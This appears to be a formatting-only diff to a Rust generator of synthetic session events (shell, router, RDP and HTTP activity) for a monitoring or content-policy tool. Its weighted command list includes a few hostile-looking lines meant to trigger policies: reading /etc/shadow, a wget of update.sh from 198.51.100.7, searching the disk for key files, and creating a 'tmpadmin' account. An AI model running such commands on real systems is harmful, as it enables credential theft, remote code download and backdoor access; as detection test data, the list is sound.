@@ -331,24 +331,62 @@ fn weighted(rng: &mut Rng, items: &[(&'static str, u32)]) -> &'static str {
 /// Shell commands with their relative frequency: mostly looking around, some changes,
 /// and the few lines the content policies watch for.
 const SHELL_COMMANDS: &[(&str, u32)] = &[
-    ("ls", 60), ("ls -la", 40), ("cd /var/log", 20), ("cd /etc/nginx", 10), ("cd /srv/app", 10), ("cd ~", 8),
-    ("pwd", 15), ("whoami", 8), ("id", 6), ("uptime", 10), ("df -h", 15), ("free -m", 10), ("ps aux", 15),
-    ("top -b -n 1", 6), ("tail -n 100 /var/log/syslog", 12), ("grep -i error /var/log/nginx/error.log", 10),
-    ("journalctl -u nginx --since today", 8), ("systemctl status nginx", 12), ("systemctl restart nginx", 6),
-    ("sudo -i", 6), ("sudo systemctl restart postgresql", 3), ("su -", 2), ("cat /etc/passwd", 3),
-    ("cat /etc/shadow", 1), ("vim /etc/nginx/nginx.conf", 6), ("rm -rf /tmp/x", 2), ("rm -rf /var/cache/app/*", 2),
-    ("tar czf /tmp/etc-backup.tar.gz /etc", 3), ("scp /tmp/etc-backup.tar.gz backup@10.20.5.20:/srv/backup/", 2),
-    ("psql -U postgres -c 'select count(*) from pg_stat_activity'", 4), ("mysql -u root -p", 3),
-    ("docker ps", 8), ("kubectl get pods -n prod", 6), ("git pull", 5), ("history", 4), ("man sudo", 2),
-    ("crontab -l", 4), ("ss -tulpn", 5), ("iptables -L -n", 3), ("chmod 777 /srv/app/uploads", 1),
-    ("useradd -m tmpadmin", 1), ("passwd tmpadmin", 1), ("curl -s http://localhost:8080/health", 6),
-    ("wget http://198.51.100.7/update.sh", 1), ("find / -name '*.key' 2>/dev/null", 1), ("exit", 3),
+    ("ls", 60),
+    ("ls -la", 40),
+    ("cd /var/log", 20),
+    ("cd /etc/nginx", 10),
+    ("cd /srv/app", 10),
+    ("cd ~", 8),
+    ("pwd", 15),
+    ("whoami", 8),
+    ("id", 6),
+    ("uptime", 10),
+    ("df -h", 15),
+    ("free -m", 10),
+    ("ps aux", 15),
+    ("top -b -n 1", 6),
+    ("tail -n 100 /var/log/syslog", 12),
+    ("grep -i error /var/log/nginx/error.log", 10),
+    ("journalctl -u nginx --since today", 8),
+    ("systemctl status nginx", 12),
+    ("systemctl restart nginx", 6),
+    ("sudo -i", 6),
+    ("sudo systemctl restart postgresql", 3),
+    ("su -", 2),
+    ("cat /etc/passwd", 3),
+    ("cat /etc/shadow", 1),
+    ("vim /etc/nginx/nginx.conf", 6),
+    ("rm -rf /tmp/x", 2),
+    ("rm -rf /var/cache/app/*", 2),
+    ("tar czf /tmp/etc-backup.tar.gz /etc", 3),
+    ("scp /tmp/etc-backup.tar.gz backup@10.20.5.20:/srv/backup/", 2),
+    ("psql -U postgres -c 'select count(*) from pg_stat_activity'", 4),
+    ("mysql -u root -p", 3),
+    ("docker ps", 8),
+    ("kubectl get pods -n prod", 6),
+    ("git pull", 5),
+    ("history", 4),
+    ("man sudo", 2),
+    ("crontab -l", 4),
+    ("ss -tulpn", 5),
+    ("iptables -L -n", 3),
+    ("chmod 777 /srv/app/uploads", 1),
+    ("useradd -m tmpadmin", 1),
+    ("passwd tmpadmin", 1),
+    ("curl -s http://localhost:8080/health", 6),
+    ("wget http://198.51.100.7/update.sh", 1),
+    ("find / -name '*.key' 2>/dev/null", 1),
+    ("exit", 3),
 ];
 
 /// What a deployment or backup account runs, over and over.
 const SCRIPTED_COMMANDS: &[&str] = &[
-    "curl -s http://localhost:8080/health", "systemctl is-active app", "df -h /srv", "sleep 30",
-    "rsync -a /srv/app/ /srv/backup/app/", "date -u",
+    "curl -s http://localhost:8080/health",
+    "systemctl is-active app",
+    "df -h /srv",
+    "sleep 30",
+    "rsync -a /srv/app/ /srv/backup/app/",
+    "date -u",
 ];
 
 const SHELL_TRANSFERS: &[(&str, &str)] = &[
@@ -361,15 +399,34 @@ const SHELL_TRANSFERS: &[(&str, &str)] = &[
 const ROUTER_USER: &[&str] = &["show version", "show ip interface brief", "show clock", "enable", "ping 10.0.0.1"];
 
 const ROUTER_ENABLED: &[&str] = &[
-    "show running-config", "configure terminal", "interface GigabitEthernet0/1", "shutdown", "no shutdown",
-    "write memory", "show ip route", "show logging", "disable", "reload",
+    "show running-config",
+    "configure terminal",
+    "interface GigabitEthernet0/1",
+    "shutdown",
+    "no shutdown",
+    "write memory",
+    "show ip route",
+    "show logging",
+    "disable",
+    "reload",
 ];
 
 const WINDOW_TITLES: &[&str] = &[
-    "Server Manager", "Windows PowerShell", "Administrator: Command Prompt", "Event Viewer", "Services",
-    "Active Directory Users and Computers", "SQL Server Management Studio", "Task Manager", "Registry Editor",
-    "Notepad - passwords.txt", "Microsoft Edge - Admin portal", "Remote Desktop Connection", "File Explorer - C:\\Temp",
-    "Citrix Workspace", "VMware vSphere Client",
+    "Server Manager",
+    "Windows PowerShell",
+    "Administrator: Command Prompt",
+    "Event Viewer",
+    "Services",
+    "Active Directory Users and Computers",
+    "SQL Server Management Studio",
+    "Task Manager",
+    "Registry Editor",
+    "Notepad - passwords.txt",
+    "Microsoft Edge - Admin portal",
+    "Remote Desktop Connection",
+    "File Explorer - C:\\Temp",
+    "Citrix Workspace",
+    "VMware vSphere Client",
 ];
 
 const SCREEN_TEXT: &[&str] = &[
@@ -394,8 +451,14 @@ const DESKTOP_TRANSFERS: &[(&str, &str)] = &[
 ];
 
 const HTTP_REQUESTS: &[(&str, &str)] = &[
-    ("GET", "/admin/"), ("POST", "/login"), ("GET", "/api/v1/users?limit=100"), ("DELETE", "/api/v1/users/42"),
-    ("PUT", "/api/v1/config/firewall"), ("GET", "/phpmyadmin/"), ("GET", "/metrics"), ("POST", "/api/v1/backup"),
+    ("GET", "/admin/"),
+    ("POST", "/login"),
+    ("GET", "/api/v1/users?limit=100"),
+    ("DELETE", "/api/v1/users/42"),
+    ("PUT", "/api/v1/config/firewall"),
+    ("GET", "/phpmyadmin/"),
+    ("GET", "/metrics"),
+    ("POST", "/api/v1/backup"),
 ];
 
 #[cfg(test)]
@@ -424,7 +487,9 @@ mod tests {
 
     #[test]
     fn each_protocol_has_its_kinds() {
-        let kinds = |p: &str| generate(&context(p, "alice"), 3, 400, false).into_iter().filter_map(|e| e.event_type).collect::<Vec<_>>();
+        let kinds = |p: &str| {
+            generate(&context(p, "alice"), 3, 400, false).into_iter().filter_map(|e| e.event_type).collect::<Vec<_>>()
+        };
         assert!(kinds("ssh").contains(&EventType::Command) && kinds("ssh").contains(&EventType::FileTransfer));
         assert!(kinds("rdp").contains(&EventType::ScreenContent) && kinds("rdp").contains(&EventType::WindowTitle));
         assert!(kinds("http").iter().all(|k| *k == EventType::HttpRequest));
